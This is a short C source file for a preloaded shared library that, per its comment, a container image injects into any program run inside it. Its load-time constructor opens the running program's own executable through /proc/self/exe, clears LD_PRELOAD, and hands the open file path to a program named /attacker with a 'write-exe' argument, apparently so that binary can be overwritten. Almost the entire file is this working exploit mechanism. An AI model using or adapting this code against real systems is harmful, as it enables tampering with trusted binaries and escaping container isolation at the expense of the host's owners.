/* A library that an image puts into whatever program runs in it: it keeps that program's file open, and
 * runs another program, so that the file is no longer busy when that one writes to it. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

__attribute__((constructor)) static void begin(void)
{
    char path[40];
    int file = open("/proc/self/exe", O_RDONLY);
    snprintf(path, sizeof path, "/proc/self/fd/%d", file);
    unsetenv("LD_PRELOAD");
    execl("/attacker", "attacker", "write-exe", path, (char *)0);
}
